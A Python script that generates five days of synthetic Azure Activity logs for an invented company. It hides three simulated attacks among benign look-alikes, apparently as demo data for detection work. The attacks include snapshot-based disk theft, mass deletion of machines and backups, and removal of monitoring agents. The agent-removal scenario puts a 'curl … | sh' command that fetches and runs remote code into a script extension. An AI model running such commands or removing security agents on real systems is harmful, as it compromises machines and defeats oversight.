#!/usr/bin/env python3
"""Writes the demo telemetry of this package: five days of Azure Activity logs of an invented company.

Larkspur Freight has three subscriptions, and each exports its activity log in another way:

  production   storage account, one PT1H.json of JSON lines an hour       Start / Accept / Success, upper-case names
  shared       `az monitor activity-log list`, a JSON array a day         Started / Accepted / Succeeded, names as typed
  logistics    Event Hub capture, {"records": […]} a line, gzip           Started / Succeeded, as older producers write

Three attacks hide in the daily work: a snapshot that becomes a new machine, a burst of deletions, and machines whose
agents are removed and replaced by a script. The daily work holds what is usually mistaken for them: build machines that
live minutes, a disaster recovery test, infrastructure as code in its maintenance window, a script that stops idle
machines, and an agent rollout.

Standard library only, seeded: the same files come out byte for byte. Addresses are those of RFC 5737, names are invented.
"""

import datetime as dt
import gzip
import json
import pathlib
import random
import shutil

HERE = pathlib.Path(__file__).resolve().parent
RNG = random.Random(1578)
FIRST_DAY = dt.datetime(2026, 3, 4)  # a Wednesday
DAYS = 5
TENANT = "6f0c5f4e-2d3b-4c57-9a0e-1b7d2f6c8a11"
DOMAIN = "larkspur.example"
CLAIMS = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/"
MS_CLAIMS = "http://schemas.microsoft.com/identity/claims/"


def guid():
    return "%08x-%04x-4%03x-%04x-%012x" % (
        RNG.getrandbits(32),
        RNG.getrandbits(16),
        RNG.getrandbits(12),
        0x8000 | RNG.getrandbits(14),
        RNG.getrandbits(48),
    )


def stamp(time):
    """Seven digits, as Azure writes them."""
    return time.strftime("%Y-%m-%dT%H:%M:%S.%f") + f"{time.microsecond * 7 % 10}Z"


class Caller:
    def __init__(self, name, role, addresses, app=None, mail=None):
        self.name, self.role, self.addresses = name, role, addresses
        self.oid, self.app = guid(), app or "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"
        self.upn = mail
        self.definition = ROLES[role]
        self.assignment = guid().replace("-", "")

    @property
    def caller(self):
        return self.upn or self.oid

    def claims(self, time, address):
        issued = int((time - dt.datetime(1970, 1, 1)).total_seconds()) - RNG.randrange(60, 3000)
        claims = {
            "aud": "https://management.core.windows.net/",
            "iss": f"https://sts.windows.net/{TENANT}/",
            "iat": str(issued),
            "nbf": str(issued),
            "exp": str(issued + 3900),
            "appid": self.app,
            "appidacr": "0" if self.upn else "1",
            MS_CLAIMS + "objectidentifier": self.oid,
            MS_CLAIMS + "tenantid": TENANT,
            CLAIMS + "nameidentifier": self.oid,
            "uti": f"{RNG.getrandbits(96):024x}"[:22],
            "ver": "1.0",
        }
        if self.upn:
            first, last = self.name.split(" ")
            claims |= {
                "http://schemas.microsoft.com/claims/authnclassreference": "1",
                "http://schemas.microsoft.com/claims/authnmethodsreferences": "pwd,mfa",
                CLAIMS + "givenname": first,
                CLAIMS + "surname": last,
                "name": self.name,
                "ipaddr": address,
                MS_CLAIMS + "scope": "user_impersonation",
                CLAIMS + "name": self.upn,
                CLAIMS + "upn": self.upn,
            }
        else:
            claims |= {"idtyp": "app", MS_CLAIMS + "identityprovider": f"https://sts.windows.net/{TENANT}/"}
        return claims


ROLES = {
    "Owner": "8e3af657a8ff443ca75c2fe8c4bcb635",
    "Contributor": "b24988ac618042a0ab8820f7382dd24c",
    "Virtual Machine Contributor": "9980e02cc2be4d7394e8173b1dc7cf3c",
    "Reader": "acdd72a7338548efbd42f606fba81ae7",
    "Backup Contributor": "5e467623bb1f42f4a55d6e525e11384b",
}


class Subscription:
    def __init__(self, id, groups):
        self.id, self.groups = id, groups

    def resource(self, group, kind, *names):
        """The id of a resource: `kind` is a provider and its types, `names` one name for each type."""
        provider, *types = kind.split("/")
        path = "".join(f"/{t}/{n}" for t, n in zip(types, names))
        return f"/subscriptions/{self.id}/resourceGroups/{group}/providers/{provider}{path}"


PRODUCTION = Subscription("3c1f6a52-7b0e-4d29-9c64-5a8e0b9d1f37", ["rg-finance", "rg-web", "rg-data", "rg-build"])
SHARED = Subscription("a94d27e0-15c8-4f6b-8e33-0d7c62b1f5a9", ["rg-identity", "rg-monitoring", "rg-jump"])
LOGISTICS = Subscription("e07b83d1-4a6f-4b92-b1d5-72c09fe6a841", ["RG-Track", "RG-Dispatch", "RG-Archive"])

ANA = Caller("Ana Ruiz", "Contributor", ["198.51.100.24", "198.51.100.77"], mail=f"ana.ruiz@{DOMAIN}")
TOM = Caller("Tom Becker", "Owner", ["198.51.100.24"], mail=f"tom.becker@{DOMAIN}")
MEI = Caller("Mei Tan", "Virtual Machine Contributor", ["203.0.113.45"], mail=f"mei.tan@{DOMAIN}")
IVO = Caller("Ivo Petrov", "Contributor", ["198.51.100.77"], mail=f"ivo.petrov@{DOMAIN}")
TERRAFORM = Caller("terraform", "Contributor", ["192.0.2.10", "192.0.2.11"], app="1d5c7e9a-0b64-4f1e-8c2d-93f7a6b0e415")
BUILDER = Caller("build-agents", "Contributor", ["192.0.2.20"], app="7a2e4c61-95d8-4b3f-a0c7-6e1f8d2b9053")
SAVER = Caller("idle-machine-saver", "Virtual Machine Contributor", ["192.0.2.30"], app="b85f0d13-6c27-4ea9-91b4-2f7c5e8a6d40")
ROLLOUT = Caller("agent-rollout", "Contributor", ["192.0.2.40"], app="e31c9b74-8f50-4d62-b7a8-054d9e6c1f2b")
PEOPLE = [ANA, TOM, MEI, IVO]

# The machines that live through the five days: subscription, group, name.
MACHINES = [
    (PRODUCTION, group, name)
    for group, names in {
        "rg-finance": ["sql-fin-01", "app-fin-01", "app-fin-02"],
        "rg-web": ["web-01", "web-02", "web-03", "web-04"],
        "rg-data": ["etl-01", "etl-02", "lake-gw-01"],
    }.items()
    for name in names
]
MACHINES += [(SHARED, "rg-identity", "dc-01"), (SHARED, "rg-identity", "dc-02"), (SHARED, "rg-monitoring", "siem-fwd-01")]
MACHINES += [(SHARED, "rg-jump", "jump-01"), (LOGISTICS, "RG-Track", "Track-DB-01"), (LOGISTICS, "RG-Track", "Track-API-01")]
MACHINES += [(LOGISTICS, "RG-Dispatch", "Dispatch-01"), (LOGISTICS, "RG-Dispatch", "Dispatch-02"), (LOGISTICS, "RG-Archive", "Archive-01")]
OS_DISKS = {name: f"{name}_OsDisk_1_{RNG.getrandbits(128):032x}" for _, _, name in MACHINES}


def machine_id(name):
    sub, group, _ = next(m for m in MACHINES if m[2] == name)
    return sub.resource(group, "Microsoft.Compute/virtualMachines", name)


def disk_id(name):
    sub, group, _ = next(m for m in MACHINES if m[2] == name)
    return sub.resource(group, "Microsoft.Compute/disks", OS_DISKS[name])


EVENTS = []  # (time, subscription, record as plain values)


def event(sub, time, caller, address, action, entity, status, sub_status, correlation, properties, **more):
    EVENTS.append(
        {
            "sub": sub, "time": time, "caller": caller, "address": address, "action": action, "entity": entity,
            "status": status, "substatus": sub_status, "correlation": correlation, "properties": properties,
            "category": "Administrative", "operation": guid(), "data": guid(), **more,
        }
    )  # fmt: skip


def do(sub, time, caller, action, entity, *, address=None, created=False, slow=None, fails=None,
       request=None, response=None, correlation=None):  # fmt: skip
    """One operation and its rows: a start, for a slow one an acceptance, and an end.

    `slow` is how many seconds the work goes on after it was accepted, `fails` the status code of a failure.
    """
    address = address or RNG.choice(caller.addresses)
    correlation = correlation or guid()
    # A request that waits in the queue of the provider is accepted within a second; ids and times never repeat.
    time += dt.timedelta(microseconds=RNG.randrange(1_000_000))
    request = {"requestbody": json.dumps(request, separators=(",", ":"))} if request else {}
    response = {"responseBody": json.dumps(response, separators=(",", ":"))} if response else {}
    common = (caller, address, action, entity)
    event(sub, time, *common, "Start", "", correlation, request)
    soon = time + dt.timedelta(milliseconds=RNG.randrange(150, 900))
    if fails:
        error = json.dumps({"error": {"code": fails, "message": f"The request failed: {fails}."}})
        properties = {"statusCode": fails, "serviceRequestId": guid(), "statusMessage": error}
        event(sub, soon, *common, "Failure", fails, correlation, properties)
    elif slow is None:
        code = "Created" if created else "OK"
        event(sub, soon, *common, "Success", code, correlation, {"statusCode": code, "serviceRequestId": guid()} | response)
    else:
        code = "Created" if created else "Accepted"
        event(sub, soon, *common, "Accept", code, correlation, {"statusCode": code, "serviceRequestId": guid()} | response)
        end = soon + dt.timedelta(seconds=slow, microseconds=RNG.randrange(1_000_000))
        event(sub, end, *common, "Success", "", correlation, {})
    return correlation


# --- The operations ----------------------------------------------------------------------------------------------------


def act(name, verb, time, caller, **more):
    sub, _, _ = next(m for m in MACHINES if m[2] == name)
    return do(sub, time, caller, f"Microsoft.Compute/virtualMachines/{verb}", machine_id(name), slow=RNG.randrange(4, 60), **more)


def machine_body(os_disk, size="Standard_D2s_v5", data_disks=(), create="FromImage"):
    return {
        "location": "westeurope",
        "properties": {
            "hardwareProfile": {"vmSize": size},
            "storageProfile": {
                "osDisk": {"osType": "Linux", "createOption": create, "managedDisk": {"id": os_disk}},
                "dataDisks": [{"lun": i, "createOption": "Attach", "managedDisk": {"id": d}} for i, d in enumerate(data_disks)],
            },
        },
    }


def new_machine(sub, time, caller, group, name, **more):
    os_disk = sub.resource(group, "Microsoft.Compute/disks", f"{name}_OsDisk_1_{RNG.getrandbits(128):032x}")
    body = machine_body(os_disk, size=more.pop("size", "Standard_D2s_v5"))
    entity = sub.resource(group, "Microsoft.Compute/virtualMachines", name)
    do(sub, time, caller, "Microsoft.Compute/virtualMachines/write", entity, created=True, slow=22, request=body, response=body, **more)
    return os_disk


def drop(sub, time, caller, entity, **more):
    """Deletes any resource."""
    parts = entity.split("/providers/")[-1].split("/")
    action = "/".join([parts[0], *parts[1::2], "delete"])
    return do(sub, time, caller, action, entity, slow=RNG.randrange(2, 20), **more)


def snapshot(sub, time, caller, group, name, disk, **more):
    body = {"location": "westeurope", "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": disk}, "incremental": False}}
    entity = sub.resource(group, "Microsoft.Compute/snapshots", name)
    do(sub, time, caller, "Microsoft.Compute/snapshots/write", entity, slow=5, request=body, response=body, **more)
    return entity


def disk_from(sub, time, caller, group, name, source, **more):
    body = {"location": "westeurope", "properties": {"creationData": {"createOption": "Copy", "sourceResourceId": source}, "diskSizeGB": 128}}
    entity = sub.resource(group, "Microsoft.Compute/disks", name)
    do(sub, time, caller, "Microsoft.Compute/disks/write", entity, created=True, slow=3, request=body, response=body, **more)
    return entity


def extension(name, time, caller, verb, publisher, kind, settings=None, **more):
    sub, group, _ = next(m for m in MACHINES if m[2] == name)
    entity = sub.resource(group, "Microsoft.Compute/virtualMachines/extensions", name, kind)
    if verb == "delete":
        return drop(sub, time, caller, entity, **more)
    body = {"location": "westeurope", "properties": {"publisher": publisher, "type": kind, "typeHandlerVersion": "2.1", "settings": settings or {}}}
    return do(sub, time, caller, "Microsoft.Compute/virtualMachines/extensions/write", entity, created=True, slow=40, request=body, response=body, **more)


# --- The daily work ----------------------------------------------------------------------------------------------------


def at(day, hour, minute=0, second=0):
    return FIRST_DAY + dt.timedelta(days=day, hours=hour, minutes=minute, seconds=second)


def office_hours(day):
    """What people do between eight and five: mostly reading keys, deploying apps, changing tags and restarting things."""
    for _ in range(190):
        time = at(day, RNG.randrange(8, 17), RNG.randrange(60), RNG.randrange(60))
        caller = RNG.choice(PEOPLE)
        sub = RNG.choice([PRODUCTION, PRODUCTION, SHARED, SHARED, LOGISTICS, LOGISTICS])
        group = RNG.choice(sub.groups)
        n = RNG.randrange(1, 5)
        what = RNG.choices(range(9), weights=[20, 10, 12, 8, 8, 8, 5, 4, 3])[0]
        if what == 0:
            account = sub.resource(group, "Microsoft.Storage/storageAccounts", f"stlarkspur{group[3:6].lower()}{n}")
            do(sub, time, caller, "Microsoft.Storage/storageAccounts/listKeys/action", account)
        elif what == 1:
            site = sub.resource(group, "Microsoft.Web/sites/config", f"app-{group[3:].lower()}-{n}", "appsettings")
            do(sub, time, caller, "Microsoft.Web/sites/config/write", site)
        elif what == 2:
            name = f"{group[3:].lower()}-{time:%Y%m%d%H%M}"
            do(sub, time, caller, "Microsoft.Resources/deployments/write", sub.resource(group, "Microsoft.Resources/deployments", name), created=True, slow=35)
        elif what == 3:
            nsg = sub.resource(group, "Microsoft.Network/networkSecurityGroups/securityRules", f"nsg-{group[3:].lower()}", f"allow-{n}")
            do(sub, time, caller, "Microsoft.Network/networkSecurityGroups/securityRules/write", nsg, slow=4)
        elif what == 4:
            names = [m[2] for m in MACHINES if m[0] is sub]
            act(RNG.choice(names), RNG.choice(["restart/action", "start/action"]), time, caller)
        elif what == 5:
            vault = sub.resource(group, "Microsoft.KeyVault/vaults", f"kv-{group[3:].lower()}")
            do(sub, time, caller, "Microsoft.KeyVault/vaults/read", vault, fails="AuthorizationFailed" if n == 1 else None)
        elif what == 6:
            do(sub, time, caller, "Microsoft.Resources/tags/write", sub.resource(group, "Microsoft.Resources/tags", "default"))
        elif what == 7 and caller is not IVO:
            name = RNG.choice([m[2] for m in MACHINES if m[0] is sub])
            body = machine_body(disk_id(name))
            do(sub, time, caller, "Microsoft.Compute/virtualMachines/write", machine_id(name), slow=6, request={"tags": {"owner": caller.upn}}, response=body)
        else:
            zone = sub.resource(group, "Microsoft.Network/dnszones/A", DOMAIN, f"host{n}")
            do(sub, time, caller, "Microsoft.Network/dnszones/A/write", zone, created=n == 1)


def build_machines(day):
    """A pipeline that makes a machine, builds for some minutes and deletes it, disk and network card included."""
    for run in range(9):
        time = at(day, 6 + run + run // 4, RNG.randrange(50), RNG.randrange(60))
        name = f"build-{day + 1:02}{run + 1:02}"
        disk = new_machine(PRODUCTION, time, BUILDER, "rg-build", name)
        gone = time + dt.timedelta(minutes=RNG.randrange(6, 18))
        drop(PRODUCTION, gone, BUILDER, PRODUCTION.resource("rg-build", "Microsoft.Compute/virtualMachines", name))
        drop(PRODUCTION, gone + dt.timedelta(seconds=45), BUILDER, disk)


def idle_machines(day):
    """The saver stops what nobody needs at night and starts it in the morning."""
    for i, name in enumerate(["web-03", "web-04", "etl-01", "etl-02", "jump-01", "Dispatch-02"]):
        act(name, "start/action", at(day, 6, 30, i * 7), SAVER)
        act(name, "deallocate/action", at(day, 19, 30, i * 7), SAVER)


def terraform_plan(day):
    """Every six hours the pipeline reads the state of each subscription and refreshes a lease."""
    for hour in (0, 6, 12, 18):
        for sub in (PRODUCTION, SHARED, LOGISTICS):
            account = sub.resource(sub.groups[0], "Microsoft.Storage/storageAccounts", f"sttfstate{sub.id[:4]}")
            do(sub, at(day, hour, 5, RNG.randrange(60)), TERRAFORM, "Microsoft.Storage/storageAccounts/listKeys/action", account)


def terraform_apply():
    """Wednesday evening, in the maintenance window of change CHG-2041: the web tier is replaced."""
    for i in range(1, 5):
        vmss = PRODUCTION.resource("rg-web", "Microsoft.Compute/virtualMachineScaleSets", f"web-pool-{i}")
        do(PRODUCTION, at(0, 20, 10 + i, 5), TERRAFORM, "Microsoft.Compute/virtualMachineScaleSets/write", vmss, created=True, slow=30)
        old = PRODUCTION.resource("rg-web", "Microsoft.Compute/virtualMachineScaleSets", f"web-pool-old-{i}")
        drop(PRODUCTION, at(0, 20, 25 + i, 9), TERRAFORM, old)


def recovery_test():
    """Thursday, change CHG-2057: Tom snapshots two machines, restores a disk from each, starts a copy, cleans up."""
    for i, name in enumerate(["app-fin-01", "app-fin-02"]):
        snap = snapshot(PRODUCTION, at(1, 13, 2 + i), TOM, "rg-drtest", f"drtest-{name}", disk_id(name))
        disk = disk_from(PRODUCTION, at(1, 13, 8 + i), TOM, "rg-drtest", f"drtest-{name}-os", snap)
        vm = PRODUCTION.resource("rg-drtest", "Microsoft.Compute/virtualMachines", f"drtest-{name}")
        body = machine_body(disk, create="Attach")
        do(PRODUCTION, at(1, 13, 15 + i), TOM, "Microsoft.Compute/virtualMachines/write", vm, created=True, slow=25, request=body, response=body)
        for minute, thing in ((50, vm), (54, disk), (57, snap)):
            drop(PRODUCTION, at(1, 14, minute + i), TOM, thing)


def agent_rollout():
    """Friday: a security agent goes to all machines of all subscriptions."""
    for i, (_, _, name) in enumerate(MACHINES):
        extension(name, at(2, 10, i // 2, 20 * (i % 2)), ROLLOUT, "write", "Microsoft.Azure.Monitor", "AzureMonitorLinuxAgent")


def backups(day):
    """The backup service takes restore points at night."""
    for i, (sub, group, name) in enumerate(MACHINES):
        if i % 3 == 0:
            entity = sub.resource(group, "Microsoft.RecoveryServices/vaults/backupJobs", "rsv-larkspur", guid())
            do(sub, at(day, 1, 10 + i), BACKUP, "Microsoft.RecoveryServices/vaults/backupJobs/read", entity)


BACKUP = Caller("azure-backup", "Backup Contributor", [""], app="262044b1-e2ce-469f-a196-69ab7ada62d3")
POLICY = Caller("azure-policy", "Reader", [""], app="1d78a85d-813d-46f0-b496-dd72f50a3ec0")


def other_categories(day):
    """Rows that are no operation of anybody: policy, health, alerts, autoscale, advice."""
    for _ in range(120):
        time = at(day, RNG.randrange(24), RNG.randrange(60), RNG.randrange(60)) + dt.timedelta(microseconds=RNG.randrange(1_000_000))
        sub, group, name = RNG.choice(MACHINES)
        entity = machine_id(name)
        kind = RNG.choices(["Policy", "ResourceHealth", "Alert", "Autoscale", "Recommendation"], weights=[46, 10, 8, 4, 2])[0]
        if kind == "Policy":
            found = [{"policyDefinitionId": "/providers/Microsoft.Authorization/policyDefinitions/" + guid(), "policyDefinitionEffect": "audit"}]
            properties = {"isComplianceCheck": "True", "resourceLocation": "westeurope", "policies": json.dumps(found)}
            event(sub, time, POLICY, "", "Microsoft.Authorization/policies/audit/action", entity, "Success", "", guid(), properties, category=kind)
        elif kind == "ResourceHealth":
            healthy = RNG.random() < 0.5
            state = {"currentHealthStatus": "Available" if healthy else "Unavailable", "previousHealthStatus": "Unknown", "type": "Downtime", "cause": "PlatformInitiated"}
            event(sub, time, None, "", "Microsoft.Resourcehealth/healthevent/Updated/action", entity, "Updated" if healthy else "Active", "", guid(), {"eventProperties": state}, category=kind)
        elif kind == "Alert":
            rule = sub.resource(group, "Microsoft.Insights/metricAlerts", f"cpu-{name}")
            event(sub, time, None, "", "Microsoft.Insights/AlertRules/Activated/Action", rule, "Activated", "", guid(), {"Threshold": "90", "MetricName": "Percentage CPU"}, category=kind)
        elif kind == "Autoscale":
            setting = PRODUCTION.resource("rg-web", "Microsoft.Insights/autoscalesettings", "autoscale-web")
            event(PRODUCTION, time, None, "", "Microsoft.Insights/AutoscaleSettings/Scaleup/Action", setting, "Success", "", guid(), {"OldInstancesCount": "2", "NewInstancesCount": "3"}, category=kind)
        else:
            event(sub, time, None, "", "Microsoft.Advisor/recommendations/available/action", entity, "Active", "", guid(), {"recommendationCategory": "Cost"}, category=kind)


# --- The attacks -------------------------------------------------------------------------------------------------------


def copied_machine(sub, day, caller, address, victim, group, tag):
    """A disk is copied by way of a snapshot, mounted in a machine nobody watches, read, and everything is cleaned up."""
    start = at(day, 2, 14, 7)

    def later(minutes, seconds=0):
        return start + dt.timedelta(minutes=minutes, seconds=seconds)

    from_here = {"address": address}
    victim_group = next(m[1] for m in MACHINES if m[2] == victim)
    snap = snapshot(sub, start, caller, victim_group, f"{victim}-bak", disk_id(victim), **from_here)
    disk = disk_from(sub, later(5), caller, group, f"dsk-{tag}", snap, **from_here)
    nic = sub.resource(group, "Microsoft.Network/networkInterfaces", f"nic-{tag}")
    do(sub, later(8), caller, "Microsoft.Network/networkInterfaces/write", nic, created=True, slow=2, **from_here)
    vm = sub.resource(group, "Microsoft.Compute/virtualMachines", f"vm-{tag}")
    body = machine_body(disk, size="Standard_E96s_v5", create="Attach")
    do(sub, later(8, 40), caller, "Microsoft.Compute/virtualMachines/write", vm, request=body, fails="QuotaExceeded", **from_here)
    own_disk = new_machine(sub, later(9), caller, group, f"vm-{tag}", **from_here)
    body = machine_body(own_disk, data_disks=[disk])
    do(sub, later(16), caller, "Microsoft.Compute/virtualMachines/write", vm, slow=9, request=body, response=body, **from_here)
    do(sub, later(24), caller, "Microsoft.Compute/virtualMachines/runCommand/action", vm, slow=33, **from_here)
    do(sub, later(30), caller, "Microsoft.Compute/disks/beginGetAccess/action", disk, slow=2, **from_here)
    if sub is PRODUCTION:
        do(sub, later(45), caller, "Microsoft.Compute/disks/endGetAccess/action", disk, slow=1, **from_here)
    for minute, thing in ((52, vm), (54, own_disk), (55, disk), (56, snap)):
        drop(sub, later(minute), caller, thing, **from_here)


def grant(day):
    """On the way, the machines of the next night are opened: Tom's account gives Mei a role in another subscription."""
    assignment = SHARED.resource(SHARED.groups[0], "Microsoft.Authorization/roleAssignments", guid())
    role = f"/subscriptions/{SHARED.id}/providers/Microsoft.Authorization/roleDefinitions/{ROLES['Virtual Machine Contributor']}"
    body = {"properties": {"roleDefinitionId": role, "principalId": MEI.oid, "principalType": "User"}}
    do(SHARED, at(day, 3, 31, 5), TOM, "Microsoft.Authorization/roleAssignments/write", assignment, created=True, request=body, address="203.0.113.199")


def deletions(day):
    """A privileged account deletes machines, disks and the ways back to them, across groups and subscriptions."""
    from_here = {"address": "203.0.113.201"}
    start = at(day, 23, 41)
    lock = PRODUCTION.resource("rg-data", "Microsoft.Authorization/locks", "keep")
    do(PRODUCTION, start - dt.timedelta(minutes=2), TOM, "Microsoft.Authorization/locks/delete", lock, **from_here)
    targets = [machine_id(n) for n in ("web-01", "web-02", "etl-02", "lake-gw-01")]
    targets += [disk_id(n) for n in ("web-01", "web-02", "etl-02")]
    targets += [PRODUCTION.resource("rg-data", "Microsoft.Compute/snapshots", f"weekly-{n}") for n in ("etl-01", "etl-02")]
    targets += [PRODUCTION.resource("rg-data", "Microsoft.Compute/restorePointCollections", "rpc-lake-gw-01")]
    for i, entity in enumerate(targets):
        drop(PRODUCTION, start + dt.timedelta(seconds=33 * i), TOM, entity, **from_here)
    targets = [machine_id(n) for n in ("Track-DB-01", "Track-API-01", "Dispatch-01")]
    targets += [disk_id(n) for n in ("Track-DB-01", "Track-API-01", "Dispatch-01")]
    for i, entity in enumerate(targets):
        drop(LOGISTICS, start + dt.timedelta(seconds=20 + 41 * i), TOM, entity, **from_here)
    # The last group goes as a whole: what it takes along is deleted under its correlation id.
    group = f"/subscriptions/{LOGISTICS.id}/resourceGroups/RG-Archive"
    action = "Microsoft.Resources/subscriptions/resourceGroups/delete"
    end = start + dt.timedelta(minutes=5)
    whole = do(LOGISTICS, end, TOM, action, group, slow=70, **from_here)
    snap = LOGISTICS.resource("RG-Archive", "Microsoft.Compute/snapshots", "Archive-01-monthly")
    for i, entity in enumerate([machine_id("Archive-01"), disk_id("Archive-01"), snap]):
        drop(LOGISTICS, end + dt.timedelta(seconds=10 + 9 * i), TOM, entity, correlation=whole, **from_here)


def agents_replaced(day, names, hour):
    """Monitoring agents are removed and a script extension is put in their place, at a busy hour, by a help-desk account."""
    from_here = {"address": "203.0.113.188"}
    for i, name in enumerate(names):
        time = at(day, hour, 5 + 3 * i)
        extension(name, time, IVO, "delete", "", "AzureMonitorLinuxAgent", **from_here)
        extension(name, time + dt.timedelta(seconds=20), IVO, "delete", "", "MDE.Linux", **from_here)
        script = {"commandToExecute": "curl -s http://198.51.100.250/i.sh | sh"}
        extension(name, time + dt.timedelta(seconds=70), IVO, "write", "Microsoft.Azure.Extensions", "CustomScript", script, **from_here)


# --- The exports -------------------------------------------------------------------------------------------------------

OLD = {"Start": "Started", "Accept": "Accepted", "Success": "Succeeded", "Failure": "Failed"}
HTTP = {"OK": 200, "Created": 201, "Accepted": 202, "AuthorizationFailed": 403}


def common_properties(e):
    return e["properties"] | {
        "eventCategory": e["category"],
        "entity": e["entity"],
        "message": e["action"],
        "hierarchy": f"{TENANT}/{e['sub'].id}",
    }


def authorization(e):
    caller = e["caller"]
    return {
        "scope": e["entity"],
        "action": e["action"],
        "evidence": {
            "role": caller.role,
            "roleAssignmentScope": f"/subscriptions/{e['sub'].id}",
            "roleAssignmentId": caller.assignment,
            "roleDefinitionId": caller.definition,
            "principalId": caller.oid.replace("-", ""),
            "principalType": "User" if caller.upn else "ServicePrincipal",
        },
    }


def diagnostic_record(e, old_words):
    """A record as diagnostic settings write it to storage and to Event Hubs."""
    status = e["status"]
    old = OLD.get(status, status)
    record = {"RoleLocation": "West Europe", "ReleaseVersion": "6.2026.8.2+6b1f0c2", "time": stamp(e["time"])}
    record["resourceId"] = e["entity"] if old_words else e["entity"].upper()
    record["operationName"] = e["action"] if old_words else e["action"].upper()
    record["category"] = e["category"]
    record["resultType"] = old if old_words else status
    record["resultSignature"] = f"{old}.{e['substatus']}"
    record["durationMs"] = "0"
    if e["address"]:
        record["callerIpAddress"] = e["address"]
    record["correlationId"] = e["correlation"]
    if e["caller"]:
        record["identity"] = {"authorization": authorization(e), "claims": e["caller"].claims(e["time"], e["address"])}
    record["level"] = "Error" if status == "Failure" else "Information"
    record["properties"] = common_properties(e)
    record["tenantId"] = TENANT
    return record


def words(value, text=None):
    return {"localizedValue": text or value, "value": value}


def rest_record(e):
    """A record as `az monitor activity-log list` prints it."""
    provider = e["entity"].split("/providers/")[-1].split("/")
    status, code = OLD.get(e["status"], e["status"]), e["substatus"]
    record = {"authorization": authorization(e) if e["caller"] else None, "caller": e["caller"].caller if e["caller"] else None}
    record["category"] = words(e["category"])
    record["channels"] = "Operation"
    record["claims"] = e["caller"].claims(e["time"], e["address"]) if e["caller"] else {}
    record["correlationId"] = e["correlation"]
    record["description"] = ""
    record["eventDataId"] = e["data"]
    record["eventName"] = words("BeginRequest" if e["status"] == "Start" else "EndRequest")
    record["eventTimestamp"] = stamp(e["time"])
    http = {"clientIpAddress": e["address"], "clientRequestId": e["operation"], "method": "DELETE" if e["action"].endswith("delete") else "PUT"}
    record["httpRequest"] = http if e["address"] else None
    record["id"] = f"{e['entity']}/events/{e['data']}/ticks/{int((e['time'] - dt.datetime(1, 1, 1)).total_seconds() * 10_000_000)}"
    record["level"] = "Error" if status == "Failed" else "Informational"
    record["operationId"] = e["operation"]
    record["operationName"] = words(e["action"])
    record["properties"] = common_properties(e)
    record["resourceGroupName"] = e["entity"].split("/")[4]
    record["resourceId"] = e["entity"]
    record["resourceProviderName"] = words(provider[0])
    record["resourceType"] = words("/".join([provider[0], *provider[1::2]]))
    record["status"] = words(status)
    record["subStatus"] = words(code, f"{code} (HTTP Status Code: {HTTP[code]})") if code in HTTP else words(code)
    record["submissionTimestamp"] = stamp(e["time"] + dt.timedelta(seconds=RNG.randrange(40, 240)))
    record["subscriptionId"] = e["sub"].id
    record["tenantId"] = TENANT
    return record


def line(record):
    return json.dumps(record, separators=(",", ":")) + "\n"


def write(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix == ".gz":
        # Without a time and a name in the header, the same text gives the same bytes.
        with open(path, "wb") as file, gzip.GzipFile(filename="", mode="wb", fileobj=file, mtime=0) as packed:
            packed.write(text.encode())
    else:
        path.write_text(text, encoding="utf-8", newline="\n")


def export_storage(events):
    hours = {}
    for e in events:
        record = line(diagnostic_record(e, old_words=False))
        # In this hour a second, overlapping diagnostic setting was active: every record arrived twice.
        times = 2 if (e["time"].day, e["time"].hour) == (7, 2) else 1
        hours.setdefault(e["time"].replace(minute=0, second=0, microsecond=0), []).extend([record] * times)
    root = HERE / "storage" / "insights-activity-logs" / "resourceId=" / "SUBSCRIPTIONS" / PRODUCTION.id.upper()
    for hour, lines in hours.items():
        folder = root / f"y={hour:%Y}" / f"m={hour:%m}" / f"d={hour:%d}" / f"h={hour:%H}" / "m=00"
        write(folder / "PT1H.json", "".join(lines))


def export_rest(events):
    """One file a day, newest first; the last day is left as the command printed it, the others are packed."""
    days = {}
    for e in events:
        days.setdefault(e["time"].date(), []).append(rest_record(e))
    for day, records in days.items():
        name = f"activity-log-{day}.json" + ("" if day == max(days) else ".gz")
        write(HERE / "cli" / name, json.dumps(records[::-1], indent=2, sort_keys=True) + "\n")


def export_event_hub(events):
    """Batches of up to twenty records a line, as the capture of an Event Hub has them."""
    records = [diagnostic_record(e, old_words=True) for e in events]
    batches = [{"records": records[i : i + 20]} for i in range(0, len(records), 20)]
    write(HERE / "eventhub" / "capture.json.gz", "".join(line(b) for b in batches))


def main():
    for day in range(DAYS):
        weekday = at(day, 0).weekday()
        if weekday < 5:
            office_hours(day)
            build_machines(day)
        idle_machines(day)
        terraform_plan(day)
        backups(day)
        other_categories(day)
    terraform_apply()
    recovery_test()
    agent_rollout()
    copied_machine(PRODUCTION, 3, MEI, "203.0.113.199", "sql-fin-01", "rg-web", "7731")
    copied_machine(SHARED, 4, MEI, "203.0.113.199", "dc-01", "rg-jump", "7732")
    grant(3)
    deletions(4)
    agents_replaced(2, ["app-fin-01", "app-fin-02"], 14)
    agents_replaced(2, ["siem-fwd-01", "dc-02"], 15)
    EVENTS.sort(key=lambda e: e["time"])
    for name in ("storage", "cli", "eventhub"):
        shutil.rmtree(HERE / name, ignore_errors=True)
    export_storage([e for e in EVENTS if e["sub"] is PRODUCTION])
    export_rest([e for e in EVENTS if e["sub"] is SHARED])
    export_event_hub([e for e in EVENTS if e["sub"] is LOGISTICS])


if __name__ == "__main__":
    main()
